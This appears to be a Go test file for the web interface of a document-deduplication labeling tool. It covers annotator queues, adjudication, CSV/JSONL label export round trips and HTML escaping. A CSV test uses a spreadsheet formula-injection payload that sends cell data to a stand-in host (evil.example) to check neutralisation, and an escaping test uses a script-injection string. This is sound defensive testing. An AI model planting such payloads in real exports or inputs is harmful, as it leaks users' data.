package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/dedupstudio/dedupstudio/internal/db"
	"github.com/dedupstudio/dedupstudio/internal/ingest"
	"github.com/dedupstudio/dedupstudio/internal/lsh"
)

var pairLoc = regexp.MustCompile(`^/campaigns/1/pairs/(\d+)$`)

// nextPair follows /next for a user and returns the pair URL it lands on, or "".
func (f *fixture) nextPair(c *http.Cookie) string {
	f.t.Helper()
	rec := f.do("GET", "/campaigns/1/next", c, nil)
	if rec.Code == http.StatusOK {
		return "" // queue empty page
	}
	loc := rec.Header().Get("Location")
	if !pairLoc.MatchString(loc) {
		f.t.Fatalf("next: %d %s", rec.Code, loc)
	}
	return loc
}

func previousOf(body string) string {
	m := regexp.MustCompile(`name="previous" value="(\d+)"`).FindStringSubmatch(body)
	if m == nil {
		return "0"
	}
	return m[1]
}

// label answers the pair page at page (a pair's address; with ?adjudicate=1, its
// adjudication) as the person with cookie c, as a browser does: the form is posted with
// the previous value the page holds.
func (f *fixture) label(c *http.Cookie, page string, form url.Values) *httptest.ResponseRecorder {
	f.t.Helper()
	_, body := get(f.t, f.h, page, c)
	form.Set("previous", previousOf(body))
	path, _, _ := strings.Cut(page, "?")
	return f.do("POST", path+"/label", c, form)
}

func TestLabelingQueueBlindAndHistory(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	ctx := context.Background()
	// Two pairs from the import are labeled (by "seed"); ask for two labels on each.
	f.do("POST", "/campaigns/1/settings", f.signIn("reviewer"), url.Values{"spec": {"level=word size=2"}, "threshold": {"0.5"}, "overlap": {"2"}, "double_share": {"0"}})
	f.store.AddPairs(ctx, 1, nil, "t") // no-op
	ann := f.signIn("annotator")
	seen := map[string]bool{}
	for i := 0; ; i++ {
		loc := f.nextPair(ann)
		if loc == "" {
			break
		}
		if seen[loc] {
			t.Fatalf("%s offered twice to the same annotator", loc)
		}
		seen[loc] = true
		res, body := get(t, f.h, loc, ann)
		if res.StatusCode != 200 {
			t.Fatalf("pair page %s: %d", loc, res.StatusCode)
		}
		// Blind: the seed annotator's label is not on the page before deciding.
		if strings.Contains(body, `data-testid="others"`) || strings.Contains(body, "seed:") {
			t.Errorf("%s shows other labels before this annotator decided", loc)
		}
		rec := f.do("POST", loc+"/label", ann, url.Values{"category": {"3"}, "duplicate": {""}, "note": {"looked twice"}, "previous": {previousOf(body)}, "action": {"submit"}})
		next, page := f.follow(rec, ann)
		if !strings.Contains(page, "Saved") || !strings.Contains(page, "minor edits.") {
			t.Errorf("submit went to %s without saying what was saved", next)
		}
		// Annotators stay blind after deciding too (issue 8 item 5): their own label only.
		_, after := get(t, f.h, loc, ann)
		if strings.Contains(after, `data-testid="others"`) || strings.Contains(after, "seed") {
			t.Errorf("%s shows an annotator the other labels after deciding", loc)
		}
		if i > 5 {
			t.Fatal("queue does not end")
		}
	}
	if len(seen) != 2 {
		t.Errorf("annotator saw %d pairs; want the 2 of the campaign", len(seen))
	}
	cur, _ := f.store.CurrentLabels(ctx, 1)
	if len(cur) != 4 {
		t.Fatalf("%d standing labels; want 4", len(cur))
	}
	// Editing appends: relabel pair 1 with the right 'previous'; a stale one is refused.
	_, body := get(t, f.h, "/campaigns/1/pairs/1", ann)
	prev := previousOf(body)
	if !strings.Contains(body, `value="minor" checked`) {
		t.Error("the form is not prefilled with the standing label")
	}
	if rec := f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"exact"}, "previous": {prev}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("edit: %d", rec.Code)
	}
	rec := f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"different"}, "previous": {prev}})
	if loc, body := f.follow(rec, ann); !strings.HasPrefix(loc, "/campaigns/1/pairs/1?notice=") || !strings.Contains(body, "changed since the page was loaded") {
		t.Errorf("stale edit went to %s; want the pair again, saying it changed:\n%s", loc, body)
	}
	hist, _ := f.store.PairHistory(ctx, 1)
	if len(hist) != 3 || hist[2].Category != "exact" || !hist[2].PreviousID.Valid {
		t.Errorf("history of pair 1: %+v", hist)
	}
	// Undo withdraws the last decision and the pair returns to this annotator's queue;
	// the page says what was undone and links the pair (issue 8 item 7).
	rec = f.do("POST", "/campaigns/1/undo", ann, url.Values{})
	if loc, body := f.follow(rec, ann); !strings.HasPrefix(loc, "/campaigns/1/pairs/1?notice=") || !strings.Contains(body, `Undid: <a href="/campaigns/1/pairs/1" data-testid="notice-link">pair 1</a>, exact copy.`) {
		t.Errorf("undo went to %s; want pair 1 saying \"Undid: pair 1, exact copy\" with a link:\n%s", loc, body)
	}
	if loc := f.nextPair(ann); loc != "/campaigns/1/pairs/1" {
		t.Errorf("after undo, next is %q; want pair 1 back", loc)
	}
	// A category outside the list, or a missing duplicate decision, is refused by name.
	// After a refusal the page is the pair's (a reload posts nothing), with what was sent.
	_, body = get(t, f.h, "/campaigns/1/pairs/1", ann)
	rec = f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"9"}, "note": {"kept"}, "previous": {previousOf(body)}})
	if _, page := f.follow(rec, ann); !strings.Contains(page, "choose a category") || !strings.Contains(page, ">kept</textarea>") {
		t.Errorf("category 9: the pair page does not say so, or lost the note:\n%s", page)
	}
	rec = f.do("POST", "/campaigns/1/pairs/1/label", ann, url.Values{"category": {"partial"}, "previous": {previousOf(body)}})
	if _, page := f.follow(rec, ann); !strings.Contains(page, "press y or n") || !strings.Contains(page, `value="partial" checked`) {
		t.Errorf("partial without y/n: the pair page does not say so, or lost the category")
	}
}

func TestAdjudicationAndCrossCampaign(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
	// The annotator disagrees with the seed label on pair 1 (minor).
	f.label(ann, "/campaigns/1/pairs/1", url.Values{"category": {"different"}})
	_, page := get(t, f.h, "/campaigns/1", rev)
	if !strings.Contains(page, `data-testid="adjudication"`) || !strings.Contains(page, "annotator: different/no; import:seed: minor/yes") {
		t.Fatalf("adjudication queue missing the disagreement:\n%s", page)
	}
	// Annotators cannot adjudicate.
	if rec := f.do("GET", "/campaigns/1/pairs/1?adjudicate=1", ann, nil); rec.Code != http.StatusForbidden {
		t.Errorf("annotator adjudicating: %d", rec.Code)
	}
	_, body := get(t, f.h, "/campaigns/1/pairs/1?adjudicate=1", rev)
	if !strings.Contains(body, `data-testid="others"`) {
		t.Error("the adjudicator does not see the labels")
	}
	rec := f.do("POST", "/campaigns/1/pairs/1/label", rev, url.Values{"category": {"minor"}, "adjudicate": {"1"}, "previous": {previousOf(body)}})
	if rec.Code != http.StatusSeeOther {
		t.Fatalf("adjudicate: %d", rec.Code)
	}
	_, page = get(t, f.h, "/campaigns/1", rev)
	if !strings.Contains(page, `data-testid="adjudication-empty"`) {
		t.Error("the adjudicated pair is still in the queue")
	}
	_, csv := get(t, f.h, "/campaigns/1/labels.csv", rev)
	if !strings.Contains(csv, ",minor,yes,reviewer,,adjudication,") {
		t.Errorf("export lacks the adjudication:\n%s", csv)
	}
	// A second dataset's campaign: its pairs are not reachable through campaign 1.
	docs := `{"id":"x","text":"one two three four"}` + "\n" + `{"id":"y","text":"one two three five"}` + "\n"
	f.waitJob(f.upload("/datasets", "other.jsonl", docs, nil).Header().Get("Location"))
	list, _ := f.store.Datasets(context.Background())
	lrep, err := ingest.Labels(context.Background(), f.store, strings.NewReader("a,b,category\nx,y,minor\n"), "l.csv", ingest.LabelOptions{DatasetID: list[0].ID, Create: true})
	if err != nil {
		t.Fatal(err)
	}
	pairs, _ := f.store.PairDocs(context.Background(), lrep.CampaignID)
	other := pairs[0].ID
	for _, path := range []string{"/campaigns/1/pairs/" + itoa64(other), "/campaigns/99", "/campaigns/1/pairs/999", "/documents/999/raw"} {
		if res, _ := get(t, f.h, path, rev); res.StatusCode != http.StatusNotFound {
			t.Errorf("GET %s: %d; want 404", path, res.StatusCode)
		}
	}
	if rec := f.do("POST", "/campaigns/1/pairs/"+itoa64(other)+"/label", ann, url.Values{"category": {"minor"}}); rec.Code != http.StatusNotFound {
		t.Errorf("labeling another campaign's pair through campaign 1: %d; want 404", rec.Code)
	}
}

// Document text is escaped, never markup; raw text downloads are plain-text attachments.
func TestDocumentTextIsEscaped(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	ctx := context.Background()
	f.store.AddPairs(ctx, 1, []db.NewPair{{DocA: 1, DocB: 3, Origin: "test", Wanted: 1}}, "t")
	_, body := get(t, f.h, "/campaigns/1/pairs/3", f.signIn("annotator"))
	if strings.Contains(body, "<script>window.__xss") || !strings.Contains(body, "&lt;script&gt;window.__xss=1&lt;/script&gt;") {
		t.Error("document text reached the page unescaped")
	}
	res, raw := get(t, f.h, "/documents/3/raw", f.signIn("annotator"))
	if res.Header.Get("Content-Type") != "text/plain; charset=utf-8" || !strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment;") || !strings.Contains(raw, "<script>") {
		t.Errorf("raw download: %q %q", res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
	}
}

func TestSamplingDrawsAcrossBins(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	rev := f.signIn("reviewer")
	rec := f.do("POST", "/campaigns/1/sample", rev, url.Values{"per_bin": {"5"}, "bin": {"-1"}, "boundary": {"2"}, "random": {"10"}})
	if _, body := f.follow(rec, rev); !strings.Contains(body, "4 pairs drawn") {
		t.Errorf("sample: the campaign page does not say 4 pairs were drawn")
	}
	stats, _ := f.store.PairStats(context.Background(), 1)
	// 4 documents have 6 pairs; 2 were labeled already, so at most 4 new ones.
	if len(stats) != 6 {
		t.Errorf("%d pairs after sampling; want all 6", len(stats))
	}
	origins := map[string]bool{}
	for _, p := range stats {
		origins[strings.SplitN(p.Origin, ":", 2)[0]] = true
		if !p.Similarity.Valid {
			t.Errorf("pair %d has no similarity", p.ID)
		}
	}
	if !origins["bin"] && !origins["random"] {
		t.Errorf("origins %v", origins)
	}
	rec = f.do("POST", "/campaigns/1/sample", rev, url.Values{"per_bin": {"x"}})
	if _, body := f.follow(rec, rev); !strings.Contains(body, `data-testid="notice-error"`) || !strings.Contains(body, `name="per_bin" value="x"`) {
		t.Errorf("bad per_bin: no error on the campaign page, or the value typed is lost")
	}
}

// Exported labels re-imported into a fresh database over the same documents give the
// same labels, each as an import source (annotator becomes import:annotator: a file
// cannot make labels an account's own), except the adjudication, which the reviewer who
// imports it makes their own.
func TestLabelExportRoundTrip(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
	f.label(ann, "/campaigns/1/pairs/1", url.Values{"category": {"boilerplate"}, "duplicate": {"no"}, "note": {"a, \"quoted\" note"}})
	f.label(rev, "/campaigns/1/pairs/1?adjudicate=1", url.Values{"category": {"minor"}, "adjudicate": {"1"}})
	for _, format := range []string{"csv", "jsonl"} {
		_, exported := get(t, f.h, "/campaigns/1/labels."+format, rev)
		g := newFixture(t, 1<<20)
		g.withCampaignDocsOnly()
		list, _ := g.store.Datasets(context.Background())
		greviewer := g.signIn("reviewer")
		importer, err := g.store.UserByName(context.Background(), "reviewer")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := ingest.Labels(context.Background(), g.store, strings.NewReader(exported), "export."+format, ingest.LabelOptions{DatasetID: list[0].ID, Create: true,
			Actor: importer.Name, UserID: importer.ID, MayAdjudicate: true}); err != nil {
			t.Fatalf("%s re-import: %v\n%s", format, err, exported)
		}
		_, again := get(t, g.h, "/campaigns/1/labels."+format, greviewer)
		header, rows, _ := strings.Cut(exported, "\n")
		if format == "jsonl" {
			header, rows = "", exported
		}
		want := header + "\n" + strings.NewReplacer(",annotator,", ",import:annotator,", `"annotator":"annotator"`, `"annotator":"import:annotator"`).Replace(rows)
		if want == exported {
			t.Fatalf("%s export has no label by the annotator account:\n%s", format, exported)
		}
		if a, b := stripTimes(want), stripTimes(again); a != b {
			t.Errorf("%s round trip differs:\n%s\nvs\n%s", format, a, b)
		}
	}
}

var timeField = regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ`)

func stripTimes(s string) string {
	lines := strings.Split(strings.TrimSpace(timeField.ReplaceAllString(s, "T")), "\n")
	sort.Strings(lines)
	return strings.Join(lines, "\n")
}

func TestCampaignCategoriesAndStart(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	rev := f.signIn("reviewer")
	settings := func(cats string) *httptest.ResponseRecorder {
		return f.do("POST", "/campaigns/1/settings", rev, url.Values{"spec": {"level=word size=5"}, "threshold": {"0.8"}, "overlap": {"1"},
			"double_share": {"0.2"}, "categories": {cats}})
	}
	// 'minor' and 'translation' carry labels: they cannot go.
	if _, body := f.follow(settings("dup | duplicate | yes\nkeep | keep both | no\n"), rev); !strings.Contains(body, "standing label") ||
		!strings.Contains(body, "keep | keep both | no") {
		t.Errorf("dropping used categories: the campaign page does not say why, or lost the list typed")
	}
	rec := settings("minor | minor edits | yes | a date or a name\ntranslation | translation | no\nnear | near-duplicate | ask | judge per pair\n")
	if rec.Code != http.StatusSeeOther {
		t.Fatalf("custom categories: %d %s", rec.Code, rec.Body.String())
	}
	_, body := get(t, f.h, "/campaigns/1/pairs/1", f.signIn("annotator"))
	if !strings.Contains(body, `data-testid="cat-near"`) || strings.Contains(body, `data-testid="cat-exact"`) || !strings.Contains(body, "<kbd>3</kbd> near-duplicate") {
		t.Error("the pair page does not show the campaign's own categories")
	}
	// A dataset without a campaign gets one from the start page's button.
	f.waitJob(f.upload("/datasets", "fresh.jsonl", `{"id":"q","text":"a b c"}`+"\n"+`{"id":"r","text":"a b d"}`+"\n", nil).Header().Get("Location"))
	list, _ := f.store.Datasets(context.Background())
	// Whoever may manage campaigns starts one: the first admin too (issue 8 item 1).
	rec = f.do("POST", "/datasets/"+itoa64(list[0].ID)+"/campaigns", f.admin, url.Values{})
	if loc, body := f.follow(rec, f.admin); !strings.HasPrefix(loc, "/campaigns/2?") || !strings.Contains(body, "Draw pairs to label below") {
		t.Errorf("start campaign went to %s", loc)
	}
}

// Space skips (the pair goes to the back of this annotator's queue), f flags and
// unflags; neither is a label.
func TestSkipAndFlag(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	ctx := context.Background()
	rev := f.signIn("reviewer")
	f.do("POST", "/campaigns/1/settings", rev, url.Values{"spec": {"level=word size=5"}, "threshold": {"0.8"}, "overlap": {"2"}, "double_share": {"0"}})
	ann := f.signIn("annotator")
	first := f.nextPair(ann)
	if rec := f.do("POST", first+"/label", ann, url.Values{"action": {"skip"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("skip: %d", rec.Code)
	}
	if next := f.nextPair(ann); next == first || next == "" {
		t.Errorf("after skipping %s the queue offers %q", first, next)
	}
	f.do("POST", "/campaigns/1/pairs/2/label", ann, url.Values{"category": {"different"}, "previous": {"0"}})
	if next := f.nextPair(ann); next != first {
		t.Errorf("with the rest done, the skipped pair should come back; got %q", next)
	}
	f.do("POST", first+"/label", ann, url.Values{"action": {"flag"}})
	if flagged, _ := f.store.FlaggedPairs(ctx, 1); !flagged[1] {
		t.Error("flag not recorded")
	}
	_, body := get(t, f.h, first, ann)
	if !strings.Contains(body, `value="unflag"`) {
		t.Error("a flagged pair does not offer to unflag")
	}
	f.do("POST", first+"/label", ann, url.Values{"action": {"unflag"}})
	if flagged, _ := f.store.FlaggedPairs(ctx, 1); flagged[1] {
		t.Error("unflag not recorded")
	}
	if _, err := f.store.LatestEvent(ctx, 1, "annotator"); err == nil {
		t.Error("skip or flag counted as a label")
	}
}

// Drawing pairs caches the dataset's signatures under the campaign's representation;
// a second draw reads them back, and they are the engine's signatures.
func TestSamplingCachesSignatures(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	rev := f.signIn("reviewer")
	f.do("POST", "/campaigns/1/sample", rev, url.Values{"per_bin": {"1"}, "bin": {"-1"}, "boundary": {"0"}, "random": {"1"}})
	ctx := context.Background()
	c, _ := f.store.Campaign(ctx, 1)
	spec := c.Spec
	ids, cached, err := f.store.DatasetSignatures(ctx, c.DatasetID, spec)
	stored := 0
	for _, sig := range cached {
		if sig != nil {
			stored++
		}
	}
	if err != nil || stored != 4 {
		t.Fatalf("%d cached signatures (%v); want the 4 documents", stored, err)
	}
	h, _ := lsh.NewHasher(spec)
	doc, _ := f.store.Document(ctx, 1)
	if ids[0] != 1 || string(cached[0].Bytes()) != string(h.Signature(doc.Text, nil).Bytes()) {
		t.Error("cached signature differs from the engine's")
	}
	if rec := f.do("POST", "/campaigns/1/sample", rev, url.Values{"per_bin": {"1"}, "bin": {"-1"}, "boundary": {"0"}, "random": {"1"}}); rec.Code != http.StatusSeeOther {
		t.Errorf("second draw from the cache: %d", rec.Code)
	}
}

// A label's note is the annotator's own text: in labels.csv a note (or an id, or a name)
// that a spreadsheet would run as a formula is written as text (a leading apostrophe, as
// removals.csv does), and import-labels reads the export back as it was written.
func TestLabelsCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 1<<20)
	f.withCampaign()
	ann, rev := f.signIn("annotator"), f.signIn("reviewer")
	const note = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	if rec := f.label(ann, "/campaigns/1/pairs/1", url.Values{"category": {"different"}, "note": {note}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("label: %d", rec.Code)
	}
	_, out := get(t, f.h, "/campaigns/1/labels.csv", rev)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var noted bool
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("labels.csv cell %q would run as a formula", cell)
			}
			noted = noted || cell == "'"+note
		}
	}
	if !noted {
		t.Errorf("labels.csv lacks the note written as text\n%s", out)
	}
	// Read back: the annotator's label comes in as an import source with the note as typed.
	ds, _ := f.store.Datasets(context.Background())
	rep, err := ingest.Labels(context.Background(), f.store, strings.NewReader(out), "labels.csv", ingest.LabelOptions{DatasetID: ds[0].ID, Campaign: "default"})
	if err != nil || rep.Rejected != 0 {
		t.Fatalf("import of the export: %+v, %v", rep, err)
	}
	cur, err := f.store.CurrentLabels(context.Background(), 1)
	if err != nil {
		t.Fatal(err)
	}
	var back bool
	for _, l := range cur {
		if l.Annotator == "import:annotator" {
			back = true
			if l.Note != note {
				t.Errorf("note read back as %q; want %q", l.Note, note)
			}
		}
	}
	if !back {
		t.Error("the annotator's label did not come back as import:annotator")
	}
}
